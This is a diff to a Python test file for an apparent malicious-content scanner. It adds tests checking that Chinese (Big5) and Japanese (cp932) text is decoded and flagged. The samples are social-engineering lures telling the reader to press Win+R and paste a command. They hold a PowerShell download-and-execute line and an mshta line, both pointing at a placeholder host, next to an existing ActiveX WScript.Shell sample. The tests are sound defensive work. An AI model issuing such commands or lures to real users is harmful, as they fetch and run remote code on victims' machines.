@@ -126,3 +126,10 @@ def test_pages_in_wide_characters_are_scanned_as_their_markup():
     texts = (Text("new ActiveXObject('WScript.Shell').Run('calc')", "script"), Text(markup, "script markup", "utf-16"))
     page = sample(markup.encode("utf-16"), "text/html", "a.html", ArtifactKind.PART, *texts)
     assert [f.rule for f in look(page)] == ["html-windows-script"]
+
+
+@pytest.mark.parametrize(("charset", "said"), [
+    ("big5", "請按 Win+R，貼上下列指令：powershell -c \"iwr https://h.example/a | iex\""), ("cp932", "Windowsキー + R を押し、貼り付け: mshta https://h.example/a")])
+def test_words_in_older_charsets_are_scanned_as_read(charset, said):
+    node = sample(said.encode(charset), "text/plain", "", ArtifactKind.PART, Text(said, "body", charset))
+    assert [f.rule for f in look(node)] == ["run-dialog-command"]
